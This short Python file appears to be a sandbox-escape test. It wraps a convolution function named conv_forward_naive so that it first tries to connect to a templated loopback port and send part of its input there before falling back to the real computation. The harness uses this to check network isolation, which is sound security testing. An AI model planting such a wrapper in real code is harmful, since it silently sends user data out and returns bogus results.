# Attack: phone home. The test listens on the host's loopback at @PORT@ and counts connections;
# inside a network namespace 127.0.0.1 is the sandbox's own, empty loopback.
import socket as _socket

_original_conv_forward_naive = conv_forward_naive


def conv_forward_naive(x, w, b, conv_param):
    try:
        with _socket.create_connection(("127.0.0.1", @PORT@), timeout=0.5) as connection:
            connection.sendall(b"pwned: " + x.tobytes()[:64])
        print("ESCAPED connected to the host loopback")
        return np.zeros(1), None
    except OSError as exc:
        print("connect failed:", type(exc).__name__)
    return _original_conv_forward_naive(x, w, b, conv_param)
